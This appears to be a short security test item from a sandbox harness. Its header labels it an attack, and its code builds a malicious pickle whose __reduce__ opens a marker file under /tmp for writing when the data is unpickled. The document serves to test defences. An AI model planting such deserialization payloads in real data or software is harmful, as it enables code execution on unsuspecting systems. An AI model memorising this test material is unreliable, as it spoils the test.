# /// attack
# does = "is a pickle that runs a program"
# wall = "read"
# notebook = "unreadable"
# half = 0.0
# ///
# %% hand in
import os, pickle
class Bomb:
    def __reduce__(self): return (open, ("/tmp/vault-mark-pickle", "w"))
data = pickle.dumps(Bomb())
